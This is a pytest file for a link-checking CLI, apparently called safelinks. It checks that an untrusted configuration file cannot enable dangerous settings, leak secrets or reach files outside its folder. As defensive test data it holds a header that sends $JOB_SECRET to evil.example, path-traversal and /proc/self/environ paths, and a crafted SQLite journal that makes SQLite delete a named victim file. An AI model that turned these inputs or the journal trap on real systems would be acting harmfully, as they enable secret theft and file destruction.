"""A stranger's configuration has no power: it is found, and takes no guard away, shows nobody, sends
no secret, and reaches no file outside its directory."""

from __future__ import annotations

import os
import sqlite3
import tomllib
from collections.abc import Mapping
from contextlib import closing
from pathlib import Path

import pytest
from attacking import Count, amount
from click.testing import CliRunner, Result
from hypothesis import given, settings
from hypothesis import strategies as st

from safelinks.cli.configuration.setting_permissions import ABOUT, Power
from safelinks.cli.program import main
from safelinks.files.data.configuration import written_toml

MARK = "s3cret-of-the-job"
TRUSTED = "SAFELINKS_TRUSTED"

# Of every setting that counts by hand only, what a stranger would have it say.
POWER: Mapping[str, object] = {
    "show-recipients": True,
    "header": ["evil.example:X=$JOB_SECRET", "evil.example:Y=y"],
    "resolve": ["www.nyc.gov:443:127.0.0.1"],
    "allow-private": True,
    "allow-reserved": True,
    "allow-one-time": True,
    "allow-port": [22],
    "ca-file": "authority.pem",
    "insecure": True,
    "suggest": True,
    "archive": "https://evil.example/",
    "clean.output": "notes.txt",
    "clean.show-recipients": True,
}
FILES: Mapping[str, str] = {"safelinks.toml": "", "pyproject.toml": "tool.safelinks."}
PLACES: Mapping[str, tuple[str, str]] = {
    "beside": ("docs", "."),
    "above": (".", "docs"),
    "working-directory": ("docs", "docs"),
}
NAMED = {key for key, about in ABOUT.items() if about.path and about.power is Power.ANY_FILE}
ELSEWHERE: Mapping[str, str] = {
    "absolute": "{outside}/x.json",
    "above": "../outside/x.json",
    "below-and-above": "sub/../../outside/x.json",
    "folder-link": "link/x.json",
    "through-a-link-and-back": "link/../x.json",
    "file-link": "to-file.json",
    "dangling-link": "to-nothing.json",
    "home": "~/x.json",
    "home-of-root": "~root/x.json",
    "drive": r"C:\x.json",
    "drive-relative": "C:x.json",
    "share": r"\\host\share\x.json",
    "share-of-slashes": "//host/share/x.json",
    "backslashes": r"..\outside\x.json",
    "deep-backslashes": r"sub\..\..\x.json",
    "process": "/proc/self/environ",
    "device": "/dev/stdin",
}


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in [name for name in os.environ if name.startswith("SAFELINKS_")]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("JOB_SECRET", MARK)
    made = tmp_path / "project"
    (made / "docs" / "sub").mkdir(parents=True)
    (made / ".git").mkdir()
    (made / "docs" / "a.txt").write_text("https://www.nyc.gov/\n")
    (made / "docs" / "authority.pem").write_text("")
    (made / "authority.pem").write_text("")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.json").write_text("precious")
    for folder in (made, made / "docs"):
        (folder / "link").symlink_to(outside)
        (folder / "to-file.json").symlink_to(outside / "x.json")
        (folder / "to-nothing.json").symlink_to(outside / "new.json")
    return made


def _run(*args: str, env: Mapping[str, str] | None = None) -> Result:
    return CliRunner().invoke(main, args, env=env)


def _refused(result: Result, *words: str) -> None:
    """It ends with exit code 2 and one sentence, which says nothing secret."""
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr.count("\n") == 1
    assert MARK not in result.output
    for word in words:
        assert word in result.stderr


def test_the_settings_of_power_are_those_of_the_table() -> None:
    assert POWER.keys() == {key for key, one in ABOUT.items() if one.power is Power.BY_HAND}


@pytest.mark.slow
@pytest.mark.parametrize("key", POWER)
@pytest.mark.parametrize("place", PLACES)
def test_a_found_file_has_no_power(
    key: str, place: str, project: Path, monkeypatch: pytest.MonkeyPatch, count: Count
) -> None:
    folder, working = PLACES[place]
    monkeypatch.chdir(project / working)
    document = os.path.relpath(project / "docs" / "a.txt", project / working)
    for name, prefix in FILES.items():
        file = project / folder / name
        text = f"\n{prefix}{key} = {written_toml(POWER[key])}\n"
        file.write_text(text)
        for command in (("check", "--offline"), ("config",), ("clean", "--check")):
            # Also where the command line says the same itself: what is there is looked at.
            _refused(_run(*command, document), f"{name}, line 2: {key} ", "--config ")
        file.unlink()
    count("configurations", len(FILES) * 3)


@pytest.mark.parametrize("key", sorted(POWER.keys() - {"header"}))
def test_the_ways_that_work_are_those_of_the_sentence(
    key: str, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project / "docs")
    Path("safelinks.toml").write_text(f"{key} = {written_toml(POWER[key])}\n")
    assert _run("config").exit_code == 2
    *table, name = key.split(".")
    named = tomllib.loads(_run("config", "--config", "safelinks.toml").stdout)
    Path("safelinks.toml").unlink()
    value = POWER[key]
    said = "\n".join(value) if isinstance(value, list) and key != "allow-port" else value
    text = "22" if key == "allow-port" else str(said).replace("True", "1")
    variable = f"SAFELINKS_{key.upper().replace('-', '_').replace('.', '_')}"
    told = tomllib.loads(_run("config", env={variable: text}).stdout)
    for inner in table:
        named, told = named[inner], told[inner]
    assert named[name] == told[name] not in (False, [], None)


@pytest.mark.slow
@pytest.mark.parametrize("way", ELSEWHERE)
@pytest.mark.parametrize("key", sorted(NAMED))
def test_a_found_file_names_none_outside_its_directory(
    key: str, way: str, project: Path, monkeypatch: pytest.MonkeyPatch, count: Count
) -> None:
    monkeypatch.chdir(project)
    path = ELSEWHERE[way].format(outside=project.parent / "outside")
    value = f"json={path}" if key == "format" else path
    file = project / "docs" / "safelinks.toml"
    file.write_text(f"{key} = {written_toml([value] if key in ('format', 'output') else value)}\n")
    for command in (("check", "--offline"), ("config",)):
        _refused(_run(*command, "docs/a.txt"), f"line 1: {key} names a file outside")
    assert [one.name for one in (project.parent / "outside").iterdir()] == ["x.json"]
    assert (project.parent / "outside" / "x.json").read_text() == "precious"
    count("configurations", 2)


@pytest.mark.parametrize("path", [".git/index", ".GIT/x", "sub/../.git/x", "repository/x"])
@pytest.mark.parametrize("key", sorted(NAMED))
def test_a_found_file_names_none_of_git(
    key: str, path: str, project: Path, monkeypatch: pytest.MonkeyPatch, count: Count
) -> None:
    monkeypatch.chdir(project)
    (project / "sub").mkdir()
    (project / "repository").symlink_to(project / ".git")
    (project / ".git" / "index").write_bytes(b"DIRC\0\0")
    value = f"json={path}" if key == "format" else path
    (project / "safelinks.toml").write_text(f"{key} = {written_toml(value)}\n")
    _refused(_run("check", "--offline", "docs/a.txt"), f"line 1: {key} names a file of git")
    assert [one.name for one in (project / ".git").iterdir()] == ["index"]
    count("configurations", 1)


@pytest.mark.parametrize("setting", ['output = ["notes.md"]', 'format = ["json=notes.md"]'])
def test_a_found_file_replaces_nothing_but_reports(
    setting: str, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project / "docs")
    Path("safelinks.toml").write_text(setting)
    Path("notes.md").write_text("precious")
    result = _run("check", "--offline", "a.txt")
    assert (result.exit_code, "notes.md is not a report" in result.stderr) == (2, True)
    assert Path("notes.md").read_text() == "precious"
    Path("notes.md").unlink()
    for _ in range(2):
        assert _run("check", "--offline", "a.txt").exit_code == 0
        assert Path("notes.md").read_text() != ""
    Path("notes.md").write_text("precious")
    _run("check", "--offline", "--config", "safelinks.toml", "a.txt")
    assert Path("notes.md").read_text() != "precious"


@pytest.mark.parametrize("text", ["$JOB_SECRET", "${JOB_SECRET}", "a$JOB_SECRET$", "$$$JOB_SECRET"])
def test_a_named_file_gets_no_variable_that_is_not_for_it(
    text: str, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project / "docs")
    Path("own.toml").write_text(f'header = ["evil.example:X={text}"]')
    for command in ("check", "config"):
        _refused(_run(command, "--config", "own.toml", "a.txt"), "header takes JOB_SECRET")
    Path("own.toml").write_text(f'header = ["a.example:X=${TRUSTED}, $${{JOB_SECRET}}"]')
    result = _run("config", "--config", "own.toml", env={TRUSTED: MARK})
    assert (result.exit_code, MARK in result.output) == (0, False)


def test_a_history_that_comes_along_deletes_no_other_file(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A journal may name a further one, which SQLite deletes once it has rolled back."""
    monkeypatch.chdir(project / "docs")
    Path("safelinks.toml").write_text('history = "history"')
    Path("a.txt").write_text("https://127.0.0.1/")  # which nobody asks
    victim = project.parent / "outside" / "x.json"
    _journal_that_deletes(victim)
    assert _run("check", "a.txt").exit_code == 0
    assert victim.read_text() == "precious"
    with closing(sqlite3.connect("history")) as database:
        assert database.execute("PRAGMA quick_check").fetchall() == [("ok",)]
    # So much for the guard; that the trap is one shows without it.
    monkeypatch.setattr("safelinks.health.memory.history_file.names_another_file", lambda _: False)
    _journal_that_deletes(victim)
    _run("check", "a.txt")
    assert not victim.exists()


def _journal_that_deletes(victim: Path) -> None:
    """Make a history whose journal is one page, and the name of a file."""
    for old in Path.cwd().glob("history*"):
        old.unlink()
    assert _run("check", "--history", "history", "a.txt").exit_code == 0
    content = Path("history").read_bytes()
    size = int.from_bytes(content[16:18], "big")
    nonce, magic = 7, bytes.fromhex("d9d505f920a163d7")
    header = [1, nonce, len(content) // size, 512, size]
    page = content[:size]
    checksum = nonce + sum(page[at] for at in range(size - 200, 0, -200))
    name = str(victim).encode()
    numbers = [0x4000_0000 // size + 1, len(name), sum(name)]
    before, *after = (number.to_bytes(4, "big") for number in numbers)
    journal = magic + b"".join(number.to_bytes(4, "big") for number in header)
    journal = journal.ljust(512, b"\0") + (1).to_bytes(4, "big") + page
    journal += (checksum & 0xFFFF_FFFF).to_bytes(4, "big")
    Path("history-journal").write_bytes(journal + before + name + b"".join(after) + magic)


SEGMENTS = st.sampled_from(["..", ".", "", "sub", "link", "new", "to-nothing.json", "~", "docs"])


def test_a_path_that_is_obeyed_is_below(
    project: Path, monkeypatch: pytest.MonkeyPatch, count: Count
) -> None:
    monkeypatch.chdir(project / "docs")
    tried = amount(60, 3_000)

    @settings(max_examples=tried, deadline=None)
    @given(st.lists(SEGMENTS, min_size=1, max_size=6).map("/".join))
    def attack(path: str) -> None:
        Path("safelinks.toml").write_text(f"history = {written_toml(path)}\n")
        result = _run("config", "a.txt")
        assert result.exit_code in (0, 2)
        history = tomllib.loads(result.stdout).get("history")
        if history:
            assert Path(os.path.realpath(history)).is_relative_to(os.path.realpath(Path.cwd()))

    attack()
    count("configurations", tried)
